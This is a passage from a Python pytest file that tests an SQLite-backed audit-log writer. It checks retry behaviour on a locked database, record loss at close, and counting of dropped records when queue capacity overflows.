    locked_log: tuple[Path, sqlite3.Connection], caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.ERROR, "hybridroute.monitoring.audit")
    store = SQLiteAuditStore(locked_log[0], busy_timeout_s=0.05)
    failed: list[int] = []
    writer = AuditWriter(store, on_failed=failed.append, retry_s=0.01, max_retry_s=10.0)  # only the deadline ends it
    writer.start()
    acks = Acks()
    writer.submit([record(i) for i in range(5)], acks)
    writer.close(timeout_s=0.4)
    assert writer.failed == 5 and failed == [5] and acks.statuses == [RETRYING]
    assert "5 records and 0 drops lost" in caplog.text
    writer._thread.join(1.0)  # at most the attempt running at the deadline was left to end
    attempts = writer.failed_transactions
    time.sleep(0.2)
    assert not writer._thread.is_alive() and attempts >= 2 and writer.failed_transactions == attempts
    store.close()


def wait_until(condition: Callable[[], bool], timeout_s: float = 10.0) -> None:
    deadline = time.monotonic() + timeout_s
    while not condition():
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.005)


def test_drops_survive_failed_transactions_on_a_locked_database(locked_log: tuple[Path, sqlite3.Connection]) -> None:
    """Records dropped while another connection locks the log: their count rides failing retries until the lock goes."""
    path, other = locked_log
    store = SQLiteAuditStore(path, busy_timeout_s=0.02)
    writer = AuditWriter(store, capacity=3, retry_s=0.01, max_retry_s=0.02)
    writer.start()
    writer.submit([record(0), record(1)])
    wait_until(lambda: writer.failing)
    overflow = Acks()
    assert not writer.submit([record(2), record(3)], overflow)  # 2 queued + 2 > capacity 3: dropped, counted
    failures = writer.failed_transactions
    # One attempt may have been running without the drops; the one after it carried them, and failed too.
    wait_until(lambda: writer.failed_transactions >= failures + 2)
    other.execute("ROLLBACK")
    wait_until(lambda: not writer.failing)
    writer.close()
    assert store.count() == 2 and store.dropped() == 2 == writer.dropped and writer.failed == 0
    assert overflow.statuses == [RETRYING]
    store.close()


def test_records_given_up_at_close_but_committed_later_are_not_counted_lost(
    locked_log: tuple[Path, sqlite3.Connection], caplog: pytest.LogCaptureFixture
) -> None:
    path, other = locked_log
    store = SQLiteAuditStore(path, busy_timeout_s=3.0)
    writer = AuditWriter(store)
    writer.start()
    writer.submit([record(i) for i in range(5)])
    writer.close(timeout_s=0.2)
    assert writer.failed == 5
    other.execute("ROLLBACK")  # the lock goes: the transaction still waiting commits after all
    writer._thread.join(5.0)
    assert store.count() == 5 and writer.committed == 5 and writer.failed == 0 and writer.health()["lost"] == 0
    assert "committed after all" in caplog.text
    store.close()


def test_a_single_record_over_capacity_is_counted_durably(store: SQLiteAuditStore) -> None:
    blocking = BlockingStore(store)
    writer = AuditWriter(blocking, capacity=1, max_batch=10)  # type: ignore[arg-type]
    writer.start()
    assert writer.submit([record(0)])
    while writer.queued:  # the writer takes record 0 and blocks in write_many
        time.sleep(0.001)
    assert writer.submit([record(1)])
    overflow = Acks()
    assert not writer.submit([record(2)], overflow)  # one record past capacity
    blocking.release.set()
    writer.close()
    assert store.count() == 2 and store.dropped() == 1 and overflow.statuses == [DROPPED]
